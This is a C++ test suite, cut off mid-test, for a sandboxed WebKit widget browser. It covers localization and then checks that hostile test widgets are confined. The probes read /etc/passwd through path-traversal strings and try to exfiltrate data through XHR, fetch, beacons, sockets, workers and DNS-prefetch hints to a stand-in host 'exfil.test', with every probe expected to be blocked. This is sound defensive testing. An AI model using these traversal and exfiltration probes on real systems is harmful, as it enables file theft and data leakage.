// SPDX-License-Identifier: Apache-2.0
// widget-browser end to end: each test installs or opens a widget in a real
// WebKit view (the program runs as a child process on the display the test
// runs on, Xvfb in ctest) and reads back what the page shows, as JSON the
// browser prints when WIDGET_BROWSER_FACTS is set.
#include "host/WidgetBrowserTest.h"

#include <gdk-pixbuf/gdk-pixbuf.h>

#include <set>
#include <string>
#include <vector>

#include "testing/HttpServer.h"
#include "testing/Listener.h"
#include "testing/LoopbackResolver.h"
#include "testing/ManualPage.h"

namespace {

TEST_F(WidgetBrowserTest, FrenchReaderSeesTheFrenchCopies) {
  Browse run = install("fr");
  ASSERT_TRUE(run.facts.is_object()) << run.out << run.err;
  EXPECT_EQ("widget://sample-clock/locales/fr/index.html", url(run));
  EXPECT_NE(std::string::npos, text(run).find("Heure locale")) << text(run);
  EXPECT_EQ(kFrenchColour, colour(run));
  EXPECT_EQ(std::make_pair(60, 40), imageSize(run));
  EXPECT_EQ("Horloge exemple", title(run));
}

TEST_F(WidgetBrowserTest, FrenchLinkLeadsToTheFrenchSecondPage) {
  install("fr");
  Browse run = browse({"--lang", "fr", "--exit-after-load", launchURL()},
                      {{"WIDGET_BROWSER_STEPS", "#next"}});
  EXPECT_EQ(0, run.status) << run.err;
  EXPECT_EQ("widget://sample-clock/locales/fr/about.html", url(run));
  EXPECT_NE(std::string::npos, text(run).find("Retour à l’horloge")) << text(run);
  EXPECT_EQ(kFrenchColour, colour(run));
  // Still the same widget: its localized name stays the window's title.
  EXPECT_EQ("Horloge exemple", title(run));
}

TEST_F(WidgetBrowserTest, BackAndForwardKeepTheFrenchCopiesAndTheTitle) {
  install("fr");
  Browse back = browse({"--lang", "fr", "--exit-after-load", launchURL()},
                       {{"WIDGET_BROWSER_STEPS", "#next back"}});
  EXPECT_EQ(0, back.status) << back.err;
  EXPECT_EQ("widget://sample-clock/locales/fr/index.html", url(back));
  EXPECT_NE(std::string::npos, text(back).find("Heure locale")) << text(back);
  EXPECT_EQ(kFrenchColour, colour(back));
  EXPECT_EQ("Horloge exemple", title(back));

  Browse forward = browse({"--lang", "fr", "--exit-after-load", launchURL()},
                          {{"WIDGET_BROWSER_STEPS", "#next back forward"}});
  EXPECT_EQ("widget://sample-clock/locales/fr/about.html", url(forward));
  EXPECT_EQ(kFrenchColour, colour(forward));
  EXPECT_EQ("Horloge exemple", title(forward));
}

TEST_F(WidgetBrowserTest, GermanReaderSeesTheGermanCopies) {
  Browse run = install("de-DE,en;q=0.5");
  EXPECT_EQ("widget://sample-clock/locales/de/index.html", url(run));
  EXPECT_NE(std::string::npos, text(run).find("Ortszeit")) << text(run);
  EXPECT_EQ(kGermanColour, colour(run));
  EXPECT_EQ(std::make_pair(50, 30), imageSize(run));
  EXPECT_EQ("Beispieluhr", title(run));

  Browse next = browse({"--lang", "de", "--exit-after-load", launchURL()},
                       {{"WIDGET_BROWSER_STEPS", "#next"}});
  EXPECT_EQ("widget://sample-clock/locales/de/about.html", url(next))
      << next.out << next.err;
  EXPECT_NE(std::string::npos, text(next).find("Zurück zur Uhr")) << text(next);
  EXPECT_EQ(kGermanColour, colour(next));
}

TEST_F(WidgetBrowserTest, ReaderWithoutACopyGetsTheDefaultFiles) {
  Browse run = install("ja");
  EXPECT_EQ("widget://sample-clock/index.html", url(run));
  EXPECT_NE(std::string::npos, text(run).find("Local time")) << text(run);
  EXPECT_EQ(kDefaultColour, colour(run));
  EXPECT_EQ(std::make_pair(48, 32), imageSize(run));
  EXPECT_EQ("Sample Clock", title(run));

  Browse next = browse({"--lang", "ja", "--exit-after-load", launchURL()},
                       {{"WIDGET_BROWSER_STEPS", "#next"}});
  EXPECT_EQ("widget://sample-clock/about.html", url(next));
  EXPECT_NE(std::string::npos, text(next).find("Back to the clock"));
}

TEST_F(WidgetBrowserTest, FramesAndRequestsGetTheFrenchCopiesInsideThePage) {
  ZipBuilder zip;
  zip.addFile("config.xml",
              "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
              "<widget xmlns=\"http://www.w3.org/ns/widgets\" "
              "id=\"http://example.org/frames\" version=\"1.0\">\n"
              "  <name>Frames</name>\n  <content src=\"index.html\"/>\n"
              "</widget>\n");
  // The page reads its frame and a file (with XHR, synchronous so that it is
  // done when the load is) once all is loaded, and shows both in its title.
  zip.addFile("index.html",
              "<!DOCTYPE html><html><head><meta charset=\"UTF-8\">"
              "<title>Top</title></head><body><h1>Top</h1>"
              "<iframe id=\"f\" src=\"frame.html\"></iframe><script>"
              "window.addEventListener('load', () => {"
              " const frame = document.getElementById('f')"
              ".contentDocument.body.innerText.trim();"
              " const request = new XMLHttpRequest();"
              " request.open('GET', 'data.txt', false); request.send();"
              " document.title = frame + '|' + request.responseText.trim();"
              "});</script></body></html>");
  const std::string head = "<!DOCTYPE html><html><head><meta charset=\"UTF-8\">"
                           "</head><body>";
  zip.addFile("frame.html", head + "default frame</body></html>");
  zip.addFile("data.txt", "default data\n");
  zip.addFolder("locales/").addFolder("locales/fr/");
  zip.addFile("locales/fr/frame.html", head + "cadre français</body></html>");
  zip.addFile("locales/fr/data.txt", "données\n");
  Browse run = browse({"--lang", "fr", "--exit-after-load",
                       "file://" + writePackage("frames.wgt", zip)});
  ASSERT_EQ(0, run.status) << run.err;
  // The frame's document did not replace the page.
  EXPECT_EQ("widget://frames/index.html", url(run));
  EXPECT_EQ("cadre français|données",
            run.facts.value("documentTitle", std::string()));
  EXPECT_EQ("Frames", title(run));
}

TEST_F(WidgetBrowserTest, WidgetRootWhoseNameNeedsEscaping) {
  const std::string spaced = dir.file("my widgets") + "/";
  ASSERT_EQ(0, mkdir(spaced.c_str(), 0755));
  ASSERT_EQ(0, mkdir((spaced + "tmp").c_str(), 0755));
  Browse run = browse({"--lang", "fr", "--exit-after-load", samplePackage()},
                      {{"WIDGET_PATH", spaced}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  EXPECT_EQ("widget://sample-clock/locales/fr/index.html", url(run));
  EXPECT_EQ(kFrenchColour, colour(run));
  EXPECT_EQ(std::make_pair(60, 40), imageSize(run));
  EXPECT_EQ("Horloge exemple", title(run));
}

TEST_F(WidgetBrowserTest, LanguageComesFromTheLocaleWithoutLang) {
  install("ja");
  Browse run = browse({"--exit-after-load", launchURL()},
                      {{"LANGUAGE", "de_AT:fr"}, {"LANG", "ja_JP.UTF-8"}});
  EXPECT_EQ("widget://sample-clock/locales/de/index.html", url(run));
  EXPECT_EQ("Beispieluhr", title(run));
}

TEST_F(WidgetBrowserTest, FrenchAndGermanScreenshotsAreDistinctPictures) {
  install("fr");
  std::vector<GdkPixbuf*> shots;
  for (const char* language : {"fr", "de"}) {
    const std::string png = dir.file(std::string("shot-") + language + ".png");
    Browse run = browse({"--lang", language, "--size", "480x360",
                         "--screenshot", png, launchURL()});
    ASSERT_TRUE(run.exited) << run.err;
    ASSERT_EQ(0, run.status) << run.err;
    ASSERT_EQ("\x89PNG", TempDir::readFile(png).substr(0, 4));
    GError* error = nullptr;
    GdkPixbuf* picture = gdk_pixbuf_new_from_file(png.c_str(), &error);
    ASSERT_NE(nullptr, picture) << (error ? error->message : "");
    EXPECT_EQ(480, gdk_pixbuf_get_width(picture));
    EXPECT_EQ(360, gdk_pixbuf_get_height(picture));
    shots.push_back(picture);
  }
  // Not blank: the flag, the heading and the background are all there.
  for (GdkPixbuf* picture : shots) {
    const guchar* pixels = gdk_pixbuf_get_pixels(picture);
    const int stride = gdk_pixbuf_get_rowstride(picture);
    const int channels = gdk_pixbuf_get_n_channels(picture);
    std::map<uint32_t, int> colours;
    for (int y = 0; y < gdk_pixbuf_get_height(picture); ++y)
      for (int x = 0; x < gdk_pixbuf_get_width(picture); ++x) {
        const guchar* p = pixels + y * stride + x * channels;
        colours[(p[0] << 16) | (p[1] << 8) | p[2]]++;
      }
    EXPECT_GT(colours.size(), 20u);
  }
  size_t differing = 0;
  const size_t bytes = gdk_pixbuf_get_byte_length(shots[0]);
  ASSERT_EQ(bytes, gdk_pixbuf_get_byte_length(shots[1]));
  const guchar* a = gdk_pixbuf_get_pixels(shots[0]);
  const guchar* b = gdk_pixbuf_get_pixels(shots[1]);
  for (size_t i = 0; i < bytes; ++i) differing += a[i] != b[i];
  // The backgrounds alone differ everywhere.
  EXPECT_GT(differing, bytes / 2);
  for (GdkPixbuf* picture : shots) g_object_unref(picture);
}

TEST_F(WidgetBrowserTest, RefusedPackageShowsTheEngineReason) {
  ZipBuilder zip;
  zip.addFile("config.xml",
              "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
              "<widget xmlns=\"http://www.w3.org/ns/widgets\" "
              "id=\"http://example.org/empty\" version=\"1.0\">\n"
              "  <name>Empty</name>\n</widget>\n");
  zip.addFile("notes.txt", "no start page here\n");
  Browse run = browse({"--exit-after-load",
                       "file://" + writePackage("empty.wgt", zip)});
  ASSERT_TRUE(run.exited) << run.err;
  EXPECT_NE(0, run.status);
  EXPECT_TRUE(run.facts.value("refused", false));
  EXPECT_NE(std::string::npos, text(run).find("No start file found")) << text(run);
  // The engine's lines still reach standard output.
  EXPECT_NE(std::string::npos, run.out.find("No start file found\n"));
  EXPECT_TRUE(nothingLeft());
}

TEST_F(WidgetBrowserTest, PackageThatCannotBeFetchedIsRefused) {
  HttpServer server;
  server.serve("/missing.wgt", 404, "not here");
  Browse run = browse({"--exit-after-load", server.url("/missing.wgt")});
  ASSERT_TRUE(run.exited) << run.err;
  EXPECT_NE(0, run.status);
  EXPECT_TRUE(run.facts.value("refused", false));
  EXPECT_FALSE(text(run).empty());

  RefusingPort nobody;
  Browse refused = browse({"--exit-after-load", nobody.url("/clock.wgt")});
  ASSERT_TRUE(refused.exited) << refused.err;
  EXPECT_NE(0, refused.status);
  EXPECT_NE(std::string::npos, text(refused).find("Error while downloading"))
      << text(refused);
}

TEST_F(WidgetBrowserTest, WidgetRemovedBehindTheEngineFailsWithoutHanging) {
  const std::string package = "file://" + samplePackage();
  Browse first = browse({"--lang", "fr", "--exit-after-load", package});
  ASSERT_EQ(0, first.status) << first.err;
  TempDir::removeTree(storage());
  // Both by its launch address and by its package, which the engine still
  // answers with the launch address of the files that are gone.
  for (const std::string& address : {launchURL(), package}) {
    SCOPED_TRACE(address);
    Browse run = browse({"--lang", "fr", "--exit-after-load", address});
    EXPECT_FALSE(run.hung);
    ASSERT_TRUE(run.exited) << run.err;
    EXPECT_EQ(1, run.status) << run.out << run.err;
    EXPECT_TRUE(run.facts.value("loadFailed", false));
  }
}

TEST_F(WidgetBrowserTest, PageOutsideTheWidgetRootIsLoadedUntouched) {
  // A folder laid out like a widget, but never installed.
  const std::string site = dir.file("site");
  for (const char* folder : {"", "/locales", "/locales/fr"})
    ASSERT_EQ(0, mkdir((site + folder).c_str(), 0755));
  TempDir::writeFile(site + "/index.html",
                     "<!DOCTYPE html><html><head><title>Plain page</title>"
                     "<link rel=\"stylesheet\" href=\"style.css\"></head>"
                     "<body><h1>Plain text</h1></body></html>");
  TempDir::writeFile(site + "/style.css", "h1 { color: rgb(1, 2, 3); }");
  TempDir::writeFile(site + "/locales/fr/index.html",
                     "<html><body><h1>Texte localisé</h1></body></html>");
  TempDir::writeFile(site + "/locales/fr/style.css",
                     "h1 { color: rgb(9, 9, 9); }");
  install("fr");  // an engine that does know a widget with such files
  Browse run = browse({"--lang", "fr", "--exit-after-load",
                       "file://" + site + "/index.html"});
  EXPECT_EQ(0, run.status) << run.err;
  EXPECT_EQ("file://" + site + "/index.html", url(run));
  EXPECT_EQ("Plain text", text(run));
  EXPECT_EQ("rgb(1, 2, 3)", colour(run));
  EXPECT_EQ("Plain page", title(run));
}

// ---- The sandbox: a widget reaches its own files and what it was granted.

// Functions that the test pages below share: each tries one way to read or
// send something and says "blocked" or "LEAKED: <what came back>". Once the
// page's tries have settled, finish() shows their results as JSON in
// <pre id="results"> and adds #done, which the browser waits for.
const char kProbes[] = R"JS(
const secrets = ['root:', 'VICTIM-SECRET', 'SQLite format', 'passwd'];
function verdict(text) {
  return secrets.some(s => text.includes(s)) ? 'LEAKED: ' + text.slice(0, 60)
                                             : 'blocked';
}
function syncXhr(url) {
  try {
    const r = new XMLHttpRequest();
    r.open('GET', url, false);
    r.send();
    return r.status === 200 ? 'LEAKED: ' + r.responseText.slice(0, 60)
                            : verdict(r.responseText);
  } catch (e) { return 'blocked'; }
}
function asyncXhr(url) {
  return new Promise(resolve => {
    try {
      const r = new XMLHttpRequest();
      r.open('GET', url);
      r.onload = () => resolve(r.status === 200 ? 'ok: ' + r.responseText
                                                : 'blocked');
      r.onerror = () => resolve('blocked');
      r.send();
    } catch (e) { resolve('blocked'); }
  });
}
async function tryFetch(url) {
  try {
    const r = await fetch(url);
    const t = await r.text();
    return r.ok ? 'ok: ' + t : 'blocked';
  } catch (e) { return 'blocked'; }
}
function tryFrame(url) {
  return new Promise(resolve => {
    const f = document.createElement('iframe');
    let settled = false;
    const look = () => {
      if (settled) return;
      settled = true;
      let text = '';
      try {
        const d = f.contentDocument;
        text = d && d.documentElement ? d.documentElement.innerText : '';
      } catch (e) { text = ''; }
      resolve(verdict(text));
    };
    f.onload = () => setTimeout(look, 100);
    setTimeout(look, 3000);
    f.src = url;
    document.body.appendChild(f);
  });
}
function tryImage(url) {
  return new Promise(resolve => {
    const i = new Image();
    i.onload = () => resolve('ok: ' + i.naturalWidth);
    i.onerror = () => resolve('blocked');
    i.src = url;
  });
}
function tryScript(url) {
  return new Promise(resolve => {
    const s = document.createElement('script');
    s.onload = () => resolve('ok: loaded');
    s.onerror = () => resolve('blocked');
    s.src = url;
    document.head.appendChild(s);
  });
}
function tryStyle(url) {
  return new Promise(resolve => {
    const l = document.createElement('link');
    l.rel = 'stylesheet';
    l.onload = () => resolve('ok: loaded');
    l.onerror = () => resolve('blocked');
    l.href = url;
    document.head.appendChild(l);
  });
}
function tryFont(url) {
  try {
    const font = new FontFace('probe', 'url(' + url + ')');
    return font.load().then(() => 'ok: loaded', () => 'blocked');
  } catch (e) { return Promise.resolve('blocked'); }
}
function tryMedia(url) {
  return new Promise(resolve => {
    const a = document.createElement('audio');
    a.onerror = () => resolve('blocked');
    a.oncanplay = () => resolve('ok: playable');
    setTimeout(() => resolve('blocked'), 3000);
    a.src = url;
    a.load();
  });
}
function trySocket(url) {
  return new Promise(resolve => {
    try {
      const w = new WebSocket(url);
      w.onopen = () => resolve('ok: open');
      w.onerror = () => resolve('blocked');
      setTimeout(() => resolve('blocked'), 3000);
    } catch (e) { resolve('blocked'); }
  });
}
function tryBeacon(url) {
  try { navigator.sendBeacon(url, 'data'); } catch (e) {}
  return 'sent';
}
async function finish(tries) {
  for (const name of Object.keys(tries)) results[name] = await tries[name];
  // A beacon or an image may still be on its way: the servers' counts are
  // read after the browser has gone, so give them a moment to leave.
  await new Promise(r => setTimeout(r, 300));
  showResults();
}
)JS";

std::string page(const std::string& script, const std::string& body = "") {
  return testPage("Probe", kProbes, body, script);
}

TEST_F(WidgetBrowserTest, HostileWidgetReadsAndSendsNothing) {
  // Another widget, with a secret of its own.
  installWithEngine(widgetPackage(
      "victim", "",
      {{"index.html", "<p>victim</p>"},
       {"secret.txt", "VICTIM-SECRET"},
       {"secret.html", "<p>VICTIM-SECRET</p>"}}));
  HttpServer remote;  // never granted: must receive nothing at all
  for (const char* path : {"/script.js", "/style.css", "/img.png", "/font.woff",
                           "/media.ogg", "/frame.html", "/xhr", "/fetch"})
    remote.serve(path, 200, "VICTIM-SECRET",
                 {{"Access-Control-Allow-Origin", "*"}});
  const std::string r = remote.url("");
  const std::string ws = "ws" + r.substr(4);
  const std::string victim = "file://" + root + "widget_victim/secret.txt";
  const std::string registry = "file://" + conf + "widget.db";
  const std::string script =
      "finish({"
      // Files of the user, of another widget, of the engine.
      "  syncXhrPasswd: syncXhr('file:///etc/passwd'),"
      "  fetchPasswd: tryFetch('file:///etc/passwd'),"
      "  framePasswd: tryFrame('file:///etc/passwd'),"
      "  syncXhrListing: syncXhr('file:///etc/'),"
      "  fetchListing: tryFetch('file:///etc/'),"
      "  frameListing: tryFrame('file:///etc/'),"
      "  syncXhrVictimFile: syncXhr('" + victim + "'),"
      "  fetchVictimFile: tryFetch('" + victim + "'),"
      "  syncXhrVictim: syncXhr('widget://victim/secret.txt'),"
      "  fetchVictim: tryFetch('widget://victim/secret.txt'),"
      "  frameVictim: tryFrame('widget://victim/secret.html'),"
      "  syncXhrRegistry: syncXhr('" + registry + "'),"
      "  fetchRegistry: tryFetch('" + registry + "'),"
      "  frameRegistry: tryFrame('" + registry + "'),"
      // Ways to climb out of its own directory.
      "  climb: syncXhr('../../../../../../../../etc/passwd'),"
      "  climbEscaped: syncXhr('%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),"
      "  climbSlashes: syncXhr('x/..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd'),"
      "  climbBackslashes: syncXhr('..\\\\..\\\\..\\\\..\\\\..\\\\etc\\\\passwd'),"
      "  climbToVictim: syncXhr('../widget_victim/secret.txt'),"
      "  climbToVictimEscaped: syncXhr('%2e%2e/widget_victim/secret.txt'),"
      // The network, without any <access>.
      "  script: tryScript('" + r + "/script.js'),"
      "  style: tryStyle('" + r + "/style.css'),"
      "  image: tryImage('" + r + "/img.png'),"
      "  font: tryFont('" + r + "/font.woff'),"
      "  media: tryMedia('" + r + "/media.ogg'),"
      "  frame: tryFrame('" + r + "/frame.html'),"
      "  xhr: asyncXhr('" + r + "/xhr'),"
      "  syncXhrRemote: syncXhr('" + r + "/xhr'),"
      "  fetch: tryFetch('" + r + "/fetch'),"
      "  beacon: tryBeacon('" + r + "/beacon'),"
      "  socket: trySocket('" + ws + "/socket'),"
      "  popup: window.open('" + r + "/popup') === null ? 'blocked' : 'opened',"
      "});";
  installWithEngine(
      widgetPackage("hostile", "", {{"index.html", page(script)}}));
  Browse run = browse({"--exit-after-load", "widget://hostile/index.html"},
                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  EXPECT_EQ("widget://hostile/index.html", url(run));
  const nlohmann::json found = results(run);
  ASSERT_EQ(32u, found.size()) << text(run);
  for (const auto& entry : found.items()) {
    const std::string value = entry.value().get<std::string>();
    if (entry.key() == "beacon") continue;  // seen at the server only
    EXPECT_EQ("blocked", value) << entry.key();
  }
  EXPECT_EQ(0, remote.requestCount()) << run.err;
}

TEST_F(WidgetBrowserTest, WidgetWindowStaysOnTheWidget) {
  installWithEngine(widgetPackage(
      "victim", "", {{"index.html", "<p>VICTIM-SECRET</p>"}}));
  HttpServer site;  // not granted
  site.serve("/page.html", 200, "<p>site</p>");
  const std::string body =
      "<a id=\"file\" href=\"file:///etc/passwd\">f</a>"
      "<a id=\"listing\" href=\"file:///etc/\">l</a>"
      "<a id=\"other\" href=\"widget://victim/index.html\">o</a>"
      "<a id=\"site\" href=\"" + site.url("/page.html") + "\">s</a>"
      "<a id=\"blank\" target=\"_blank\" href=\"about.html\">b</a>"
      "<a id=\"blanksite\" target=\"_blank\" href=\"" +
      site.url("/page.html") + "\">b</a>"
      "<a id=\"data\" href=\"data:text/html,<p>data</p>\">d</a>"
      "<a id=\"save\" download href=\"about.html\">v</a>"
      "<a id=\"bin\" href=\"payload.bin\">p</a>"
      "<a id=\"ping\" ping=\"" + site.url("/ping") + "\" href=\"#pinged\">p</a>";
  installWithEngine(widgetPackage(
      "hostile", "",
      {{"index.html",
        page("window.loadedOnce = (window.loadedOnce || 0) + 1;"
             "setTimeout(() => location.href = 'file:///etc/passwd', 0);",
             body)},
       {"about.html", "<p>about</p>"},
       {"payload.bin", std::string("\x7f" "ELF\x01\x02", 6)}}));
  const std::string home = dir.file("home");
  ASSERT_EQ(0, mkdir(home.c_str(), 0700));
  // Each click is refused and the next one is made on the same page; were
  // one let through, the rest would find no link and the page would be
  // another.
  Browse run = browse(
      {"--exit-after-load", "widget://hostile/index.html"},
      {{"WIDGET_BROWSER_STEPS",
        "#file #listing #other #site #blank #blanksite #save #bin #ping"},
       {"HOME", home},
       {"XDG_CONFIG_HOME", home + "/.config"},
       {"XDG_DOWNLOAD_DIR", home}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  // The last link only moves within the page (and would send its ping).
  EXPECT_EQ("widget://hostile/index.html#pinged", url(run));
  EXPECT_EQ("Probe", run.facts.value("documentTitle", std::string()));
  EXPECT_EQ(std::string::npos, text(run).find("VICTIM-SECRET"));
  EXPECT_EQ(0, site.requestCount()) << run.err;
  // Nothing was saved anywhere in the user's home.
  EXPECT_EQ("", filesNamed(home, {"about.html", "payload.bin"}));
  // Each refusal left a line, WebKit's own among them.
  for (const std::string& line :
       {std::string("refused by WebKit: Not allowed to load local resource: "
                    "file:///etc/passwd"),
        std::string("refused to open widget://victim/index.html"),
        "refused to open " + site.url("/page.html"),
        std::string("refused to open widget://hostile/about.html"),
        std::string("refused to open widget://hostile/payload.bin"),
        std::string("refused to download widget://hostile/about.html")})
    EXPECT_NE(std::string::npos, run.err.find(line)) << line << "\n" << run.err;
}

TEST_F(WidgetBrowserTest, GrantedWidgetReachesExactlyItsOrigin) {
  HttpServer granted;
  HttpServer other;  // a second origin on the same host: must get nothing
  const HttpServer::Headers cors = {{"Access-Control-Allow-Origin", "*"}};
  // A granted origin that sends the page on to one that is not.
  granted.serve("/redirect", 302, "", {{"Location", other.url("/data.txt")},
                                       {"Access-Control-Allow-Origin", "*"}});
  for (HttpServer* server : {&granted, &other}) {
    server->serve("/script.js", 200, "window.remoteScript = 1;", cors);
    server->serve("/data.txt", 200, "remote data", cors);
    server->serve("/data.txt?fetch", 200, "remote data", cors);
    server->serve("/page.html", 200, "<p>remote page</p>", cors);
  }
  const std::string g = granted.url("");
  const std::string o = other.url("");
  const std::string script =
      "finish({"
      "  script: tryScript('" + g + "/script.js'),"
      "  xhr: asyncXhr('" + g + "/data.txt'),"
      "  fetch: tryFetch('" + g + "/data.txt?fetch'),"
      "  frame: new Promise(r => { const f = document.createElement('iframe');"
      "    f.onload = () => r('loaded'); f.src = '" + g + "/page.html';"
      "    document.body.appendChild(f); }),"
      "  socket: trySocket('ws" + g.substr(4) + "/socket'),"
      "  otherScript: tryScript('" + o + "/script.js'),"
      "  otherXhr: asyncXhr('" + o + "/data.txt'),"
      "  otherFetch: tryFetch('" + o + "/data.txt'),"
      "  otherImage: tryImage('" + o + "/img.png'),"
      "  otherFrame: tryFrame('" + o + "/page.html'),"
      "  otherSocket: trySocket('ws" + o.substr(4) + "/socket'),"
      "  otherBeacon: tryBeacon('" + o + "/beacon'),"
      "  redirected: tryFetch('" + g + "/redirect'),"
      "});";
  installWithEngine(widgetPackage(
      "granted",
      "  <access origin=\"" + g + "\"/>\n",
      {{"index.html",
        page(script, "<a id=\"away\" href=\"" + g + "/page.html?top\">a</a>")}}));
  Browse run = browse({"--exit-after-load", "widget://granted/index.html"},
                      {{"WIDGET_BROWSER_STEPS", "wait:#done #away"}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  const nlohmann::json found = results(run);
  EXPECT_EQ("ok: loaded", found.value("script", "")) << text(run);
  EXPECT_EQ("ok: remote data", found.value("xhr", "")) << text(run);
  EXPECT_EQ("ok: remote data", found.value("fetch", "")) << text(run);
  EXPECT_EQ("loaded", found.value("frame", "")) << text(run);
  for (const char* name : {"otherScript", "otherXhr", "otherFetch",
                           "otherImage", "otherFrame", "otherSocket",
                           "redirected"})
    EXPECT_EQ("blocked", found.value(name, "")) << name;
  EXPECT_EQ(1, granted.requestCount("/script.js"));
  EXPECT_EQ(1, granted.requestCount("/data.txt"));
  EXPECT_EQ(1, granted.requestCount("/data.txt?fetch"));
  EXPECT_EQ(1, granted.requestCount("/page.html"));
  EXPECT_EQ(1, granted.requestCount("/socket")) << run.err;
  EXPECT_EQ(1, granted.requestCount("/redirect"));
  EXPECT_EQ(0, other.requestCount()) << run.err;
  // A granted origin is reached from the page, but the window stays on the
  // widget when a link leads there.
  EXPECT_EQ("widget://granted/index.html", url(run));
}

// Content from a granted origin is held to the same grants: a frame of it,
// and the workers it starts, reach no other origin with any kind of
// request. Each try in the frame reports back to the widget's page.
TEST_F(WidgetBrowserTest, GrantedFrameAndItsWorkersReachNothingElse) {
  HttpServer granted;
  Listener other;  // another origin on the same host: no connection at all
  const std::string g = granted.url("");
  const std::string o = "http://" + other.hostPort();
  const std::string frame =
      "<!DOCTYPE html><html><body><script>\n"
      "const o = '" + o + "', g = '" + g + "';\n"
      "const wait = (p) => Promise.race([p, new Promise(r =>"
      "  setTimeout(() => r('no answer'), 5000))]);\n"
      "function socket(url) { return new Promise(r => { try {"
      "  const w = new WebSocket(url); w.onopen = () => r('ok: open');"
      "  w.onerror = () => r('blocked'); } catch (e) { r('blocked'); } }); }\n"
      "const tries = {\n"
      "  socket: socket('ws://" + other.hostPort() + "/s'),\n"
      "  secureSocket: socket('wss://" + other.hostPort() + "/s'),\n"
      "  events: new Promise(r => { try { const e = new EventSource(o + '/e');"
      "    e.onopen = () => r('ok: open');"
      "    e.onerror = () => { e.close(); r('blocked'); };"
      "  } catch (x) { r('blocked'); } }),\n"
      "  fetch: fetch(o + '/f').then(r => 'ok: ' + r.status, () => 'blocked'),\n"
      "  xhr: new Promise(r => { const x = new XMLHttpRequest();"
      "    x.open('GET', o + '/x'); x.onload = () => r('ok: ' + x.status);"
      "    x.onerror = () => r('blocked'); x.send(); }),\n"
      "  worker: new Promise(r => { try { const w = new Worker('worker.js');"
      "    w.onmessage = m => r(m.data); w.onerror = () => r('no worker');"
      "    w.postMessage([g + '/data.txt?worker', o + '/w']);"
      "  } catch (e) { r('no worker: ' + e); } }),\n"
      "  shared: new Promise(r => { try {"
      "    const w = new SharedWorker('shared.js');"
      "    w.port.onmessage = m => r(m.data); w.onerror = () => r('no worker');"
      "    w.port.postMessage([g + '/data.txt?shared', o + '/sh']);"
      "  } catch (e) { r('no worker: ' + e); } }),\n"
      "  service: navigator.serviceWorker"
      "    ? navigator.serviceWorker.register('sw.js').then("
      "        () => 'registered', e => 'refused: ' + e)"
      "    : Promise.resolve('unavailable'),\n"
      "};\n"
      "(async () => { const results = {};"
      "  for (const k of Object.keys(tries)) results[k] = await wait(tries[k]);"
      "  parent.postMessage(JSON.stringify(results), '*'); })();\n"
      "</script></body></html>";
  // A worker fetches a granted address, then the other origin, and says
  // what each gave.
  const std::string fetchBoth =
      "const both = ([mine, theirs]) => fetch(mine).then(r => r.text())"
      "  .catch(() => 'failed').then(first => fetch(theirs).then("
      "    r => first + ' / ok: ' + r.status, () => first + ' / blocked'));\n";
  granted.serve("/frame.html", 200, frame);
  granted.serve("/worker.js", 200,
                fetchBoth + "onmessage = m => both(m.data).then(postMessage);",
                {{"Content-Type", "text/javascript"}});
  granted.serve("/shared.js", 200,
                fetchBoth +
                    "onconnect = e => { const port = e.ports[0];"
                    "  port.onmessage = m => both(m.data).then("
                    "    t => port.postMessage(t)); };",
                {{"Content-Type", "text/javascript"}});
  granted.serve("/sw.js", 200, "fetch('" + o + "/sw');",
                {{"Content-Type", "text/javascript"}});
  for (const char* query : {"/data.txt?worker", "/data.txt?shared"})
    granted.serve(query, 200, "granted data");
  const std::string script =
      "const framed = new Promise(r => addEventListener('message',"
      "  e => r(e.data)));"
      "const f = document.createElement('iframe');"
      "f.src = '" + g + "/frame.html'; document.body.appendChild(f);"
      "finish({frame: framed});";
  installWithEngine(widgetPackage(
      "framer", "  <access origin=\"" + g + "\"/>\n",
      {{"index.html", page(script)}}));
  Browse run = browse({"--exit-after-load", "widget://framer/index.html"},
                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  const nlohmann::json found = nlohmann::json::parse(
      results(run).value("frame", std::string()), nullptr, false);
  ASSERT_TRUE(found.is_object()) << text(run);
  for (const char* name : {"socket", "secureSocket", "events", "fetch", "xhr"})
    EXPECT_EQ("blocked", found.value(name, "")) << name << "\n" << run.err;
  // The workers ran, reached the granted origin through the gate, and
  // nothing else.
  EXPECT_EQ("granted data / blocked", found.value("worker", "")) << run.err;
  EXPECT_EQ("granted data / blocked", found.value("shared", "")) << run.err;
  EXPECT_EQ(1, granted.requestCount("/data.txt?worker"));
  EXPECT_EQ(1, granted.requestCount("/data.txt?shared"));
  // Service workers are off for widgets.
  EXPECT_EQ("unavailable", found.value("service", "")) << run.err;
  EXPECT_EQ(0, granted.requestCount("/sw.js"));
  EXPECT_EQ(0, other.connections()) << run.err;
  // What got as far as the gate was refused there, with a line.
  for (const std::string& line :
       {"refused " + o + "/w: an origin the widget was not granted",
        "refused " + o + "/sh: an origin the widget was not granted",
        "refused ws://" + other.hostPort() +
            "/s: an origin the widget was not granted"})
    EXPECT_NE(std::string::npos, run.err.find(line)) << line << "\n" << run.err;
}

// A widget without <access> opens no connection and sends no DNS query by
// hinting at hosts (preconnect, dns-prefetch, prefetch), by markup or by
// script. The browser runs with a resolver configuration that sends every
// lookup to a resolver the test reads; the name the widget is granted,
// which the gate looks up, shows that lookups are seen.
TEST_F(WidgetBrowserTest, HintsReachNoHostAndResolveNoName) {
  LoopbackResolver resolver(dir.file("resolv.conf"));
  if (!resolver.ready()) GTEST_SKIP() << "127.53.0.1:53 is taken";
  wrapper = resolver.wrapper();
  Listener listener;
  const std::string l = "http://" + listener.hostPort();
  std::string hints;
  for (const std::string rel : {"preconnect", "dns-prefetch", "prefetch"}) {
    hints += "<link rel=\"" + rel + "\" href=\"" + l + "/" + rel + "\">";
    hints += "<link rel=\"" + rel + "\" href=\"http://" + rel +
             "-c2VjcmV0.exfil.test/\">";
  }
  const std::string script =
      "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) {"
      "  const link = document.createElement('link'); link.rel = rel;"
